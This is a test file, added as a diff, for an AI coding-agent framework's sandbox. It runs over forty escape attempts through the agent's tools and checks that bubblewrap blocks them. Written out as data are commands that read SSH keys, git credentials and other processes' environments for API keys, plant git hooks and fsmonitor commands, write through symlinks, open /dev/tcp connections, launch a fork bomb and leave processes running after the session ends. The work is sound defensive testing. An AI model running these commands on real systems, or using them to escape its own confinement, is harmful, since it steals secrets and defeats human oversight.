@@ -1,0 +1,649 @@
+"""The escape suite: attacks on the sandbox through the real tools, in a real git worktree.
+
+Each attack is one parametrized case, run under both sandboxes: with `bwrap` none may
+succeed; with `none` the suite documents which do (`none_escapes`). The world is real: a
+git repository with planted hooks, two worktrees (the agent's and another), a fake home
+with an SSH key, an untracked secret in the checkout, a journal, a host process holding a
+provider key, and a loopback TCP server standing in for the internet.
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import socketserver
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
+from contextlib import asynccontextmanager, contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+
+from swarm.agent.tool import ToolContext
+from swarm.agent.toolbox import coding_tools
+from swarm.errors import ToolError, WorkspaceError
+from swarm.run.check import run_check
+from swarm.run.environment import CheckEnvironment
+from swarm.run.workspace import Workspace, git, hook_env
+from swarm.sandbox import BwrapSandbox, Limits, NoSandbox, Sandbox, SandboxPolicy, bwrap_problem
+from swarm.sandbox.hooks import sandboxed_git
+
+TOOLS = {t.name: t for t in coding_tools()}
+NO_BWRAP = bwrap_problem()
+MAX_PROCESSES = 64
+HOOKS = (
+    *("post-checkout", "pre-commit", "prepare-commit-msg", "commit-msg", "post-commit"),
+    *("reference-transaction", "post-index-change", "post-rewrite", "post-merge"),
+)
+SECRETS = {
+    "ssh": "SSH-PRIVATE-KEY-6f1c",
+    "other": "OTHER-WORKTREE-SECRET-91a2",
+    "checkout": "CHECKOUT-SECRET-3b7d",
+    "journal": "JOURNAL-SECRET-c4e8",
+    "env": "sk-ESCAPE-ENV-5d20",
+    "proc": "sk-ant-ESCAPE-PROC-77f3",
+    "gitcred": "ghp_ESCAPEgitCREDENTIAL0a9b",
+}
+
+
+class _Recorder(socketserver.BaseRequestHandler):
+    def handle(self) -> None:
+        data = self.request.recv(256)
+        self.server.received.append(data.decode(errors="replace"))  # type: ignore[attr-defined]
+
+
+@contextmanager
+def internet() -> Iterator[socketserver.ThreadingTCPServer]:
+    """A real TCP server on the host's loopback: reaching it means reaching the network."""
+    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Recorder)
+    server.received = []  # type: ignore[attr-defined]
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield server
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@dataclass
+class World:
+    tmp: Path
+    repo: Path
+    outside: Path
+    home: Path
+    mine: Workspace
+    other: Workspace
+    env: CheckEnvironment
+    server: socketserver.ThreadingTCPServer
+    keyholder: int
+    """A host process whose environment holds a provider key."""
+    notes: list[str] = field(default_factory=list)
+
+    @property
+    def wt(self) -> Path:
+        return self.mine.path
+
+    @property
+    def port(self) -> int:
+        return int(self.server.server_address[1])
+
+    @property
+    def sandbox(self) -> Sandbox:
+        return self.env.sandbox
+
+    def ctx(self, check: str | None = None) -> ToolContext:
+        return self.env.context(self.wt, check=check, timeout_s=20)
+
+    def received(self, tag: str) -> bool:
+        return any(tag in r for r in self.server.received)  # type: ignore[attr-defined]
+
+
+def _sh(cwd: Path, command: str) -> None:
+    subprocess.run(command, shell=True, cwd=cwd, check=True, capture_output=True)
+
+
+def _make_repo(tmp: Path) -> tuple[Path, Path, Path]:
+    repo, outside, home = tmp / "repo", tmp / "outside", tmp / "home"
+    for d in (repo, outside, home / ".ssh"):
+        d.mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(SECRETS["ssh"])
+    (outside / "victim.txt").write_text("original\n")
+    (repo / "app.py").write_text("def one():\n    return 1\n")
+    (repo / "test_app.py").write_text(
+        "from app import one\n\n\ndef test_one():\n    assert one() == 1\n"
+    )
+    _sh(repo, "git init -q && git add . && git -c user.name=t -c user.email=t@t commit -qm init")
+    (repo / "secret.txt").write_text(SECRETS["checkout"])
+    _sh(repo, f"git remote add origin https://me:{SECRETS['gitcred']}@example.com/app.git")
+    (repo / ".swarm").mkdir()
+    (repo / ".swarm" / "journal.db").write_text(SECRETS["journal"])
+    for name in HOOKS:  # the target repository's hooks: they must never run on the host
+        hook = repo / ".git" / "hooks" / name
+        hook.write_text(
+            f'#!/bin/sh\necho "$0" >> {outside}/hooks-ran\n'
+            f"git config core.fsmonitor 'echo fsmonitor >> {outside}/hooks-ran'\nexit 0\n"
+        )
+        hook.chmod(0o755)
+    return repo, outside, home
+
+
+def _sandbox(kind: str) -> Sandbox:
+    policy = SandboxPolicy(limits=Limits(max_processes=MAX_PROCESSES))
+    return BwrapSandbox(policy) if kind == "bwrap" else NoSandbox(policy)
+
+
+@asynccontextmanager
+async def world(tmp: Path, kind: str) -> AsyncIterator[World]:
+    repo, outside, home = _make_repo(tmp)
+    env = CheckEnvironment.resolve(repo, python=sys.executable, sandbox=_sandbox(kind))
+    holder_env = {"PATH": os.environ.get("PATH", ""), "ANTHROPIC_API_KEY": SECRETS["proc"]}
+    holder = subprocess.Popen(["sleep", "120"], env=holder_env)  # noqa: ASYNC220 (no wait)
+    try:
+        with internet() as server:
+            async with (
+                Workspace.open(repo, name="mine", run_id="escape") as mine,
+                Workspace.open(repo, name="other", run_id="escape") as other,
+            ):
+                (other.path / "notes.txt").write_text(SECRETS["other"])
+                yield World(tmp, repo, outside, home, mine, other, env, server, holder.pid)
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+# ---- how an attack is carried out ----------------------------------------------------
+
+Perform = Callable[[World], Awaitable[str]]
+
+
+def run(command: Callable[[World], str]) -> Perform:
+    async def perform(w: World) -> str:
+        return await TOOLS["run"].run({"command": command(w)}, w.ctx())
+
+    return perform
+
+
+def run_tests(command: Callable[[World], str]) -> Perform:
+    async def perform(w: World) -> str:
+        return await TOOLS["run_tests"].run({}, w.ctx(check=command(w)))
+
+    return perform
+
+
+def check(command: Callable[[World], str]) -> Perform:
+    async def perform(w: World) -> str:
+        result = await run_check(command(w), w.wt, timeout_s=20, environment=w.env)
+        return result.output
+
+    return perform
+
+
+def file_tool(name: str, args: Callable[[World], dict[str, Any]]) -> Perform:
+    async def perform(w: World) -> str:
+        try:
+            return await TOOLS[name].run(args(w), w.ctx())
+        except ToolError as exc:
+            return f"refused: {exc}"
+
+    return perform
+
+
+# ---- how an escape is recognised -------------------------------------------------------
+
+Escaped = Callable[[World, str], bool]
+
+
+def wrote(path: Callable[[World], Path]) -> Escaped:
+    return lambda w, _out: path(w).exists()
+
+
+def leaked(secret: str) -> Escaped:
+    return lambda _w, out: SECRETS[secret] in out
+
+
+def reached(tag: str) -> Escaped:
+    def escaped(w: World, _out: str) -> bool:
+        deadline = time.monotonic() + 2  # the server's thread may not have noted it yet
+        while not w.received(tag) and time.monotonic() < deadline:
+            time.sleep(0.02)
+        return w.received(tag)
+
+    return escaped
+
+
+def printed(marker: str) -> Escaped:
+    return lambda _w, out: marker in out
+
+
+def _survivors(marker: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if marker.encode() in (entry / "cmdline").read_bytes():
+                    found.append(int(entry.name))
+            except OSError:
+                pass
+    return found
+
+
+def survived(marker: str) -> Escaped:
+    def escaped(_w: World, _out: str) -> bool:
+        pids = _survivors(marker)
+        for pid in pids:
+            os.kill(pid, signal.SIGKILL)
+        return bool(pids)
+
+    return escaped
+
+
+@dataclass(frozen=True)
+class Attack:
+    id: str
+    perform: Perform
+    escaped: Escaped
+    none_escapes: bool
+    """Whether it succeeds without a sandbox (documented by the `none` runs)."""
+    host_danger: bool = False
+    """Too harmful to run for real without a sandbox (a fork bomb): skipped under `none`."""
+
+
+def _out(w: World, name: str) -> Path:
+    return w.outside / name
+
+
+def _rel_out(w: World, name: str) -> str:
+    return os.path.relpath(w.outside / name, w.wt)
+
+
+def _connect(tag: str, host: str = "127.0.0.1") -> Callable[[World], str]:
+    return lambda w: (
+        f"python -c \"import socket; s = socket.create_connection(('{host}', {w.port}), "
+        f"timeout=3); s.sendall(b'{tag}'); s.close()\""
+    )
+
+
+# ---- attacks that need more than one tool call --------------------------------------------
+
+
+async def _swap_race(w: World) -> str:
+    """write_file on `d/f` while a thread swaps `d` between a directory and a symlink out."""
+    d, stop = w.wt / "d", threading.Event()
+
+    def swapper() -> None:
+        while not stop.is_set():
+            try:
+                d.rmdir() if d.is_dir() and not d.is_symlink() else d.unlink()
+            except OSError:
+                pass
+            try:
+                d.mkdir() if os.urandom(1)[0] & 1 else d.symlink_to(w.outside)
+            except OSError:
+                pass
+
+    thread = threading.Thread(target=swapper, daemon=True)
+    thread.start()
+    outcomes = set()
+    try:
+        for _ in range(300):
+            try:
+                await TOOLS["write_file"].run({"path": "d/raced.txt", "content": "x"}, w.ctx())
+                outcomes.add("wrote")
+            except ToolError as exc:
+                outcomes.add(str(exc)[:40])
+    finally:
+        stop.set()
+        thread.join()
+    return repr(sorted(outcomes))
+
+
+def _hooks_ran(w: World, _out: str) -> bool:
+    return (w.outside / "hooks-ran").exists()
+
+
+def _config_planted(w: World, _out: str) -> bool:
+    return "fsmonitor" in (w.repo / ".git" / "config").read_text()
+
+
+async def _worktree_add(w: World) -> str:
+    async with Workspace.open(w.repo, name="third", run_id="escape") as ws:
+        return str(ws.path)
+
+
+async def _apply_and_commit(w: World) -> str:
+    (w.other.path / "app.py").write_text("def one():\n    return 1 + 0\n")
+    await w.mine.apply(await w.other.patch())
+    return await w.mine.commit("apply the other's change")
+
+
+async def _hooks_run_in_sandbox(w: World) -> str:
+    """`hooks: run`: the merge queue's commit runs hooks, through `sandboxed_git`."""
+    (w.wt / "app.py").write_text("def one():\n    return 2 - 1\n")
+    await git("add", "app.py", cwd=w.wt)
+    identity = ("-c", "user.name=swarm", "-c", "user.email=swarm@localhost")
+    try:
+        return await sandboxed_git(
+            w.sandbox, *identity, "commit", "-qm", "m", cwd=w.wt, env=hook_env()
+        )
+    except WorkspaceError as exc:
+        return str(exc)
+
+
+def _await(path: str) -> str:
+    """Wait (5 s at most) for a file the survivor writes once it has left the group."""
+    return f"for _ in $(seq 100); do [ -e {path} ] && break; sleep 0.05; done"
+
+
+def _setsid(marker: str) -> str:
+    """A child in a session of its own; the command waits until it is there, then ends."""
+    up = f"up-{marker}"
+    child = f"setsid sh -c 'touch {up}; exec sleep {marker}' >/dev/null 2>&1 </dev/null &"
+    return f"{child} {_await(up)}; echo ok"
+
+
+DAEMON = "\n".join(
+    [
+        "import os, time",
+        "if os.fork(): os._exit(0)",
+        "os.setsid()",
+        "if os.fork(): os._exit(0)",
+        "open('daemon-up', 'w').close()",
+        "time.sleep(31337.2)",
+    ]
+)
+"""The classic double fork: a new session, no parent to reap it."""
+
+
+async def _fsmonitor_then_host_git(w: World) -> str:
+    """Plant a command in the repository's config, then let swarm's own git commands run."""
+    plant = f"git config core.fsmonitor 'echo ran >> {_out(w, 'fsm-ran')}'; git config -l"
+    out = await run(lambda _w: plant)(w)
+    (w.wt / "app.py").write_text("def one():\n    return 3 - 2\n")
+    return out + await w.mine.patch() + await w.mine.commit("m")
+
+
+def _many_processes(w: World) -> str:
+    return f"for i in $(seq {MAX_PROCESSES + 40}); do sleep 3 & done; sleep 0.5; echo ALL-STARTED"
+
+
+ATTACKS = [
+    # writes outside the worktree, through `run`
+    Attack(
+        "run-write-absolute",
+        run(lambda w: f"echo x > {_out(w, 'abs')}"),
+        wrote(lambda w: _out(w, "abs")),
+        True,
+    ),
+    Attack(
+        "run-write-dotdot",
+        run(lambda w: f"echo x > {_rel_out(w, 'dd')}"),
+        wrote(lambda w: _out(w, "dd")),
+        True,
+    ),
+    Attack(
+        "run-write-symlink-dir",
+        run(lambda w: f"ln -s {w.outside} out && echo x > out/sl"),
+        wrote(lambda w: _out(w, "sl")),
+        True,
+    ),
+    Attack(
+        "run-write-hard-link",
+        run(lambda w: f"ln {_out(w, 'victim.txt')} hl; echo pwned >> hl; cat hl"),
+        lambda w, _o: "pwned" in _out(w, "victim.txt").read_text(),
+        True,
+    ),
+    Attack(
+        "run-write-proc-self-root",
+        run(lambda w: f"echo x > /proc/self/root{_out(w, 'pr')}"),
+        wrote(lambda w: _out(w, "pr")),
+        True,
+    ),
+    Attack(
+        "run-write-python-open",
+        run(lambda w: f"python -c \"open('{_out(w, 'py')}', 'w').write('x')\""),
+        wrote(lambda w: _out(w, "py")),
+        True,
+    ),
+    Attack(
+        "run-write-main-checkout",
+        run(lambda w: f"echo pwned >> {w.repo / 'app.py'}"),
+        lambda w, _o: "pwned" in (w.repo / "app.py").read_text(),
+        True,
+    ),
+    Attack(
+        "run-write-other-worktree",
+        run(lambda w: f"echo pwned > {w.other.path / 'app.py'}"),
+        lambda w, _o: "pwned" in (w.other.path / "app.py").read_text(),
+        True,
+    ),
+    Attack(
+        "run-plant-hook-in-git-dir",
+        run(lambda w: f"echo 'touch {_out(w, 'hk')}' > {w.repo}/.git/hooks/pre-push"),
+        wrote(lambda w: w.repo / ".git/hooks/pre-push"),
+        True,
+    ),
+    Attack(
+        "run-redirect-dot-git-file",
+        run(lambda w: "echo 'gitdir: /tmp/evil' > .git"),
+        lambda w, _o: "evil" in (w.wt / ".git").read_text(),
+        True,
+    ),
+    Attack(
+        "run-plant-git-config",
+        run(lambda w: f"git config core.fsmonitor 'touch {_out(w, 'fsm')}'"),
+        _config_planted,
+        True,
+    ),
+    # reads of what is not the worktree's
+    Attack("run-read-ssh-key", run(lambda w: f"cat {w.home}/.ssh/id_rsa"), leaked("ssh"), True),
+    Attack(
+        "run-read-ssh-key-proc-root",
+        run(lambda w: f"cat /proc/self/root{w.home}/.ssh/id_rsa"),
+        leaked("ssh"),
+        True,
+    ),
+    Attack(
+        "run-read-other-worktree",
+        run(lambda w: f"cat {w.other.path}/notes.txt"),
+        leaked("other"),
+        True,
+    ),
+    Attack(
+        "run-read-other-worktree-dotdot",
+        run(lambda w: "cat ../other/notes.txt"),
+        leaked("other"),
+        True,
+    ),
+    Attack(
+        "run-read-main-checkout",
+        run(lambda w: f"cat {w.repo}/secret.txt"),
+        leaked("checkout"),
+        True,
+    ),
+    Attack(
+        "run-read-journal",
+        run(lambda w: f"cat {w.repo}/.swarm/journal.db"),
+        leaked("journal"),
+        True,
+    ),
+    Attack(
+        "run-read-git-remote-credentials",
+        run(lambda w: f"git config --list; cat {w.repo}/.git/config"),
+        leaked("gitcred"),
+        True,
+    ),
+    # provider keys
+    Attack("run-env-provider-key", run(lambda w: "env"), leaked("env"), False),
+    Attack(
+        "run-proc-environ-of-host-process",
+        run(lambda w: f"cat /proc/{w.keyholder}/environ"),
+        leaked("proc"),
+        True,
+    ),
+    Attack(
+        "run-scan-all-environs",
+        run(lambda w: "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a ESCAPE"),
+        leaked("proc"),
+        True,
+    ),
+    # the network
+    Attack("run-tcp-loopback", run(_connect("TCP-RUN")), reached("TCP-RUN"), True),
+    Attack(
+        "run-tcp-localhost-name", run(_connect("TCP-NAME", "localhost")), reached("TCP-NAME"), True
+    ),
+    Attack(
+        "run-tcp-bash-dev-tcp",
+        run(lambda w: f"echo TCP-BASH > /dev/tcp/127.0.0.1/{w.port}"),
+        reached("TCP-BASH"),
+        True,
+    ),
+    # processes
+    Attack(
+        "run-fork-bomb",
+        run(lambda w: ":(){ :|:& };:; sleep 2; echo BOMB-SURVIVED"),
+        printed("BOMB-SURVIVED"),
+        True,
+        host_danger=True,
+    ),
+    Attack("run-too-many-processes", run(_many_processes), printed("ALL-STARTED"), True),
+    Attack(
+        "run-setsid-survivor",
+        run(lambda w: _setsid("31337.1")),
+        survived("31337.1"),
+        True,
+    ),
+    Attack(
+        "run-daemon-survivor",
+        run(lambda w: f'python -c "{DAEMON}" >/dev/null 2>&1; {_await("daemon-up")}; echo ok'),
+        survived("31337.2"),
+        True,
+    ),
+    Attack(
+        "run-nohup-survivor",
+        run(lambda w: "nohup sleep 31337.3 >/dev/null 2>&1 & sleep 0.5; echo ok"),
+        survived("31337.3"),
+        False,
+    ),
+    # through run_tests (a malicious check or test suite)
+    Attack(
+        "run-tests-write-absolute",
+        run_tests(lambda w: f"echo x > {_out(w, 'rt')}"),
+        wrote(lambda w: _out(w, "rt")),
+        True,
+    ),
+    Attack(
+        "run-tests-read-ssh-key",
+        run_tests(lambda w: f"cat {w.home}/.ssh/id_rsa"),
+        leaked("ssh"),
+        True,
+    ),
+    Attack(
+        "run-tests-tcp-loopback",
+        run_tests(_connect("TCP-RUN-TESTS")),
+        reached("TCP-RUN-TESTS"),
+        True,
+    ),
+    # through the coordinator's check
+    Attack(
+        "check-write-absolute",
+        check(lambda w: f"echo x > {_out(w, 'ck')}"),
+        wrote(lambda w: _out(w, "ck")),
+        True,
+    ),
+    Attack("check-read-ssh-key", check(lambda w: f"cat {w.home}/.ssh/id_rsa"), leaked("ssh"), True),
+    Attack("check-tcp-loopback", check(_connect("TCP-CHECK")), reached("TCP-CHECK"), True),
+    Attack(
+        "check-setsid-survivor",
+        check(lambda w: _setsid("31337.4")),
+        survived("31337.4"),
+        True,
+    ),
+    # the file tools
+    Attack(
+        "read-file-dotdot",
+        file_tool("read_file", lambda w: {"path": _rel_out(w, "victim.txt")}),
+        printed("original"),
+        False,
+    ),
+    Attack(
+        "read-file-absolute",
+        file_tool("read_file", lambda w: {"path": str(w.home / ".ssh/id_rsa")}),
+        leaked("ssh"),
+        False,
+    ),
+    Attack(
+        "write-file-absolute",
+        file_tool("write_file", lambda w: {"path": str(_out(w, "wf")), "content": "x"}),
+        wrote(lambda w: _out(w, "wf")),
+        False,
+    ),
+    Attack(
+        "write-file-dot-git",
+        file_tool("write_file", lambda w: {"path": ".git/../.git/config", "content": "x"}),
+        lambda w, _o: (w.wt / ".git").read_text() == "x",
+        False,
+    ),
+    Attack("write-file-swapped-symlink", _swap_race, wrote(lambda w: _out(w, "raced.txt")), False),
+    # the target repository's hooks and config
+    Attack("hooks-on-worktree-add", _worktree_add, _hooks_ran, False),
+    Attack("hooks-on-apply-and-commit", _apply_and_commit, _hooks_ran, False),
+    Attack(
+        "host-git-runs-planted-fsmonitor",
+        _fsmonitor_then_host_git,
+        wrote(lambda w: _out(w, "fsm-ran")),
+        False,
+    ),
+    Attack("hooks-run-write-outside", _hooks_run_in_sandbox, _hooks_ran, True),
+    Attack("hooks-run-plant-git-config", _hooks_run_in_sandbox, _config_planted, True),
+]
+
+
+def _symlinked(w: World) -> dict[str, Any]:
+    (w.wt / "link").symlink_to(w.outside)
+    return {"path": "link/victim.txt"}
+
+
+ATTACKS += [
+    Attack(
+        "read-file-through-symlink", file_tool("read_file", _symlinked), printed("original"), False
+    ),
+    Attack(
+        "edit-file-through-symlink",
+        file_tool("edit_file", lambda w: {**_symlinked(w), "old": "original", "new": "pwned"}),
+        lambda w, _o: "pwned" in _out(w, "victim.txt").read_text(),
+        False,
+    ),
+]
+
+
+def test_the_suite_has_at_least_thirty_attacks() -> None:
+    assert len(ATTACKS) >= 30
+    assert len({a.id for a in ATTACKS}) == len(ATTACKS)
+
+
+@pytest.mark.parametrize("kind", ["bwrap", "none"])
+@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
+async def test_attack(
+    attack: Attack, kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if kind == "bwrap" and NO_BWRAP:
+        pytest.skip(f"bubblewrap cannot run here: {NO_BWRAP}")
+    if kind == "none" and attack.host_danger:
+        pytest.skip("unconfined, this would harm the machine for real (it succeeds)")
+    monkeypatch.setenv("OPENAI_API_KEY", SECRETS["env"])  # swarm's own environment
+    async with world(tmp_path, kind) as w:
+        with anyio.fail_after(60):
+            output = await attack.perform(w)
+        await anyio.sleep(0.2)  # let a straggler show itself
+        escaped = attack.escaped(w, output)
+    if kind == "bwrap":
+        assert not escaped, f"{attack.id} escaped the bwrap sandbox:\n{output}"
+    else:
+        assert escaped == attack.none_escapes, f"{attack.id} under none:\n{output}"
